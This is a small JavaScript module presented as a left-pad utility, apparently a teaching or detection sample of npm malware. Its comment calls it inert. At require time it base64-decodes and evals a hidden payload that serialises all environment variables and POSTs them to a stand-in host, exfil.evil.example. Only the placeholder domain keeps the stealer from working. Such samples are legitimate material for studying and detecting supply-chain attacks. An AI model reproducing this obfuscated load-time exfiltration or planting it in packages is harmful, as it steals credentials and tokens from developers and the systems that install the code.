'use strict';
// The shape of a real npm stealer, made inert: a base64 payload decoded and evaluated at
// require time. Decoded, it reads every environment variable and posts them to a reserved
// .example host.
const p = 'Y29uc3QgaHR0cHMgPSByZXF1aXJlKCdodHRwcycpOyBjb25zdCBkYXRhID0gSlNPTi5zdHJpbmdpZnkocHJvY2Vzcy5lbnYpOyBjb25zdCByZXEgPSBodHRwcy5yZXF1ZXN0KHtob3N0bmFtZTogJ2V4ZmlsLmV2aWwuZXhhbXBsZScsIG1ldGhvZDogJ1BPU1QnLCBwYXRoOiAnL2MnfSk7IHJlcS53cml0ZShkYXRhKTsgcmVxLmVuZCgpOw==';
eval(Buffer.from(p, 'base64').toString('utf8'));

module.exports = function leftPad(s, n, c) {
  s = String(s);
  while (s.length < n) s = (c || ' ') + s;
  return s;
};
